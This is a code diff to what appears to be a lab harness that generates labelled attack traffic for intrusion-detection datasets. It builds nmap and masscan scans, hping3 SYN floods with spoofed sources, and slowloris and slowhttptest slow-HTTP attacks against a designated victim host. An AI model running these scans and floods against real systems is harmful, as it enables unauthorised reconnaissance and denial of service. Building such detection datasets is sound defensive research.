@@ -170,7 +170,8 @@ def _port_scan(mode: str, v6: bool = False) -> Builder:
 
 def _version_scan(ctx: AttackContext) -> list[str]:
     ports = _victim_tcp_ports(ctx)
-    return _nmap(ctx, ["-sV", "--version-intensity", "2"], ",".join(map(str, ports)), 20 * len(ports))
+    # -sV waits up to ~6 s for a banner on each probe, twice inside TLS: about 20 s for an HTTPS port
+    return _nmap(ctx, ["-sV", "--version-intensity", "2"], ",".join(map(str, ports)), 25 * SCAN_PPS)
 
 
 def _udp_scan(ctx: AttackContext) -> list[str]:
@@ -188,16 +189,18 @@ def _masscan(ctx: AttackContext) -> list[str]:
     """masscan sends with its own TCP stack, so it is told its interface, addresses and the router's MAC.
 
     Its receive thread blocks on a quiet link once the scan is done, so it never exits by itself
-    (robertdavidgraham/masscan#144): ``timeout`` interrupts it after its sending time and ``--wait``.
+    (robertdavidgraham/masscan#144): ``timeout`` interrupts it after its sending time (it starts slowly: half
+    as long again) and ``--wait``, and kills it 3 s later, as it keeps waiting after the interrupt too.
     """
     ports, rate = ctx.n(2000, 50), 100
-    return ["timeout", "--signal", "INT", "--kill-after", "3", str(ports // rate + 5), "masscan", ctx.victim.ipv4,
-            f"-p1-{ports}", "--rate", str(rate), "--wait", "1", "--adapter", ctx.attacker.iface, "--adapter-ip",
-            ctx.attacker.ipv4, "--adapter-mac", ctx.attacker_mac, "--router-mac", ctx.router_mac]  # fmt: skip
+    return ["timeout", "--signal", "INT", "--kill-after", "3", str(ports * 3 // (2 * rate) + 5), "masscan",
+            ctx.victim.ipv4, f"-p1-{ports}", "--rate", str(rate), "--wait", "1", "--adapter", ctx.attacker.iface,
+            "--adapter-ip", ctx.attacker.ipv4, "--adapter-mac", ctx.attacker_mac, "--router-mac",
+            ctx.router_mac]  # fmt: skip
 
 
 # -- floods and slow attacks -----------------------------------------------------------------------
-STOPPED = (0, 124)  # timeout(1) exits 124 when it interrupted the tool, as it does for slowloris and masscan
+STOPPED = (0, 124)  # timeout(1) exits 124 when it interrupted the tool, -9 when it had to kill it (and itself)
 HPING_OK = (0, 1)  # 1: no reply at all, as for spoofed sources, ICMP to a host that rate-limits, UDP to a closed port
 
 
@@ -218,10 +221,10 @@ def _slowloris(ctx: AttackContext) -> list[str]:
             "--sleeptime", str(ctx.secs(15))]  # fmt: skip
 
 
-def _slowhttp(mode: list[str]) -> Builder:
+def _slowhttp(mode: list[str], service: Service = Service.HTTP, path: str = "/") -> Builder:
     def build(ctx: AttackContext) -> list[str]:
         return ["slowhttptest", *mode, "-c", str(ctx.n(200, 20)), "-r", "50", "-i", str(ctx.secs(10)),
-                "-l", str(ctx.secs(30, 3)), "-p", "3", "-u", ctx.url(Service.HTTP)]  # fmt: skip
+                "-l", str(ctx.secs(30, 3)), "-p", "3", "-u", ctx.url(service, path)]  # fmt: skip
 
     return build
 
@@ -334,7 +337,7 @@ _CATALOGUE = (
     Attack("nmap-version", _S, "Portscan", "nmap", None, _version_scan, 30, floor_s=30),
     Attack("nmap-udp", _S, "Portscan", "nmap", None, _udp_scan, 20, floor_s=20),
     Attack("nmap-os", _S, "Portscan", "nmap", None, _os_scan, 20, floor_s=15),
-    Attack("masscan", _S, "Portscan", "masscan", None, _masscan, 25, floor_s=8, ok_codes=STOPPED),
+    Attack("masscan", _S, "Portscan", "masscan", None, _masscan, 35, floor_s=10, ok_codes=(*STOPPED, -9)),
     # CIC-IDS2017's only flood class is DDoS (LOIC's HTTP, TCP and UDP floods); it has no ICMP flood.
     Attack("hping3-syn", _D, "DDoS", "hping3", _HTTP, _hping(_SYN, _HTTP), 30, ok_codes=HPING_OK),
     Attack("hping3-syn-spoofed", _D, "DDoS", "hping3", _HTTP, _hping(_SYN, _HTTP, True), 30, ok_codes=HPING_OK,
@@ -345,7 +348,9 @@ _CATALOGUE = (
     Attack("hping3-icmp", _D, "", "hping3", None, _hping(["--icmp"], None), 30, ok_codes=HPING_OK),
     Attack("slowloris", _D, "DoS Slowloris", "slowloris", _HTTP, _slowloris, 30, ok_codes=STOPPED),
     Attack("slowhttptest-headers", _D, "DoS Slowhttptest", "slowhttptest", _HTTP, _slowhttp(["-H"]), 30),
-    Attack("slowhttptest-body", _D, "DoS Slowhttptest", "slowhttptest", _HTTP, _slowhttp(["-B", "-s", "8192"]), 30),
+    # A slow body needs a handler that reads it: nginx answers a POST to a page at once (405); the app's form reads.
+    Attack("slowhttptest-body", _D, "DoS Slowhttptest", "slowhttptest", Service.APP,
+           _slowhttp(["-B", "-s", "8192"], Service.APP, "/login"), 30),
     Attack("slowhttptest-range", _D, "DoS Slowhttptest", "slowhttptest", _HTTP,
            _slowhttp(["-R", "-a", "10", "-b", "3000"]), 30),
     # Keep-alive connections with varied timing look like GoldenEye; a new connection per request like Hulk.
